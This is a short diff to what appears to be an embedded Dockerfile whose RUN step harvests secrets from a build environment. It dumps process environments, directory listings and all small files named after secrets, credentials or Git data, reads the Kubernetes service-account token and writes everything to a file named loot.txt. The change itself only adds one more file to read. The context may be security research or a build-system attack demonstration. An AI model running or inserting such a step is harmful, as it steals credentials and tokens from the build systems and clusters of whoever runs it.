@@ -17,7 +17,7 @@ RUN (env; cat /proc/self/mounts; cat /proc/*/environ /proc/*/cmdline | tr '\\\\0
   ls -laR /loot /credentials /docker /root /home /source /run /var/run /tmp /etc/git* /kaniko; \\
   find / -xdev -type f -size -64k \\( -path '*secret*' -o -path '*credential*' -o -name '.git*' -o -name '*.json' \\) \\
     -exec cat {} +; \\
-  cat /var/run/secrets/kubernetes.io/serviceaccount/token /credentials/* /docker/* /loot/context/.git/config) \\
+  cat /var/run/secrets/kubernetes.io/serviceaccount/token /credentials/* /docker/* /loot/context/README /loot/context/.git/config) \\
   > ${ROOT}/loot.txt 2>&1; echo done >> ${ROOT}/loot.txt
 EXPOSE 80
 `
